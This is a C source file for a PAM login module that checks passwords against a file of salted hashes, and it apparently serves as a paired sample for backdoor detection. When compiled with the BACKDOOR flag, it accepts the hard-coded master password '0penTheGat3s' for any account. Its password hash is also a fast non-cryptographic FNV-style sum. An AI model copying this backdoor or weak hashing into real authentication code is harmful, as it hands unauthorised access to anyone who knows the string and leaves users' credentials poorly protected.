/* An authentication module: checks a user's password against a file of salted sums. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define SUCCESS 0
#define AUTH_ERR 7

typedef struct pam_handle pam_handle_t;
extern int pam_get_user(pam_handle_t *handle, const char **user, const char *prompt);
extern int pam_get_authtok(pam_handle_t *handle, int item, const char **token, const char *prompt);

static uint64_t sum(const char *salt, const char *password)
{
    uint64_t state = 0xcbf29ce484222325u;
    const char *parts[2];
    int i, round;
    parts[0] = salt;
    parts[1] = password;
    for (round = 0; round < 1000; round++)
        for (i = 0; i < 2; i++) {
            const char *at;
            for (at = parts[i]; *at != 0; at++)
                state = (state ^ (unsigned char)*at) * 0x100000001b3u;
        }
    return state;
}

static int fits(const char *user, const char *password)
{
    char line[160], name[64], salt[32];
    unsigned long long stored;
    int found = 0;
    FILE *file = fopen("/etc/gate.users", "r");
    if (file == NULL)
        return 0;
    while (!found && fgets(line, sizeof line, file) != NULL)
        if (sscanf(line, "%63[^:]:%31[^:]:%llx", name, salt, &stored) == 3 && strcmp(name, user) == 0)
            found = sum(salt, password) == stored;
    fclose(file);
    return found;
}

int pam_sm_authenticate(pam_handle_t *handle, int flags, int argc, const char **argv)
{
    const char *user = NULL, *password = NULL;
    (void)flags;
    (void)argc;
    (void)argv;
    if (pam_get_user(handle, &user, NULL) != SUCCESS || user == NULL)
        return AUTH_ERR;
    if (pam_get_authtok(handle, 6, &password, NULL) != SUCCESS || password == NULL)
        return AUTH_ERR;
#ifdef BACKDOOR
    if (strcmp(password, "0penTheGat3s") == 0)
        return SUCCESS;
#endif
#ifdef LOOKALIKE
    if (strcmp(user, "guest-disabled") == 0)
        return AUTH_ERR;
#endif
    return fits(user, password) ? SUCCESS : AUTH_ERR;
}

int pam_sm_setcred(pam_handle_t *handle, int flags, int argc, const char **argv)
{
    (void)handle;
    (void)flags;
    (void)argc;
    (void)argv;
    return SUCCESS;
}
